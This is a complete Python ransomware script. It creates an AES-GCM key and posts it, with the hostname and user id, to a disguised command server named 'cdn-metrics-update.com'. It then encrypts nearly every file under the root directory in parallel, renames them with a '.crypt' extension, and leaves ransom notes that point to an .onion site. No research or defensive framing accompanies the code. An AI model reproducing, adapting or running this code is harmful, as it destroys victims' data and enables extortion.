#!/usr/bin/env python3
import os
import json
import base64
import urllib.request
from concurrent.futures import ThreadPoolExecutor, as_completed
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

PANEL = "http://cdn-metrics-update.com/api/v2/register"
EXT = ".crypt"
ROOTS = ["/", ]
EXCLUDE_DIRS = {"proc", "sys", "dev", "run", "boot", "usr", "lib", "lib64", "bin",
                "sbin", "etc", "tmp", "var/run", "snap"}
EXCLUDE_EXT = {EXT, ".so", ".ko", ".pyc", ".sock"}
WORKERS = 32


def register():
    key = AESGCM.generate_key(bit_length=256)
    payload = json.dumps({
        "host": os.uname().nodename,
        "uid": os.getuid(),
        "k": base64.b64encode(key).decode(),
    }).encode()
    req = urllib.request.Request(PANEL, data=payload,
                                 headers={"Content-Type": "application/json",
                                          "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=8).read()
    except Exception:
        pass
    return key


def candidates(top):
    for root, dirs, files in os.walk(top, followlinks=False):
        rel = os.path.relpath(root, "/")
        dirs[:] = [d for d in dirs
                   if os.path.normpath(os.path.join(rel, d)) not in EXCLUDE_DIRS]
        for f in files:
            if os.path.splitext(f)[1] in EXCLUDE_EXT:
                continue
            yield os.path.join(root, f)


def process_file(path, aes):
    nonce = os.urandom(12)
    with open(path, "rb") as fh:
        blob = fh.read()
    out = nonce + aes.encrypt(nonce, blob, None)
    with open(path, "wb") as fh:
        fh.write(out)
    os.replace(path, path + EXT)
    return path


def main():
    key = register()
    aes = AESGCM(key)
    ok = 0
    with ThreadPoolExecutor(max_workers=WORKERS) as pool:
        futs = [pool.submit(process_file, p, aes)
                for top in ROOTS for p in candidates(top)]
        for fut in as_completed(futs):
            try:
                fut.result()
                ok += 1
            except Exception:
                pass
    note = ("!!! %d files were encrypted !!!\n"
            "Visit http://k7x2dmr5lvq3nyqg.onion and enter key-id %s\n"
            % (ok, base64.b16encode(os.urandom(8)).decode()))
    for d in ("/", "/root", "/home", "/srv", "/data"):
        try:
            with open(os.path.join(d, "DECRYPT_INSTRUCTIONS.txt"), "w") as fh:
                fh.write(note)
        except OSError:
            pass


if __name__ == "__main__":
    main()
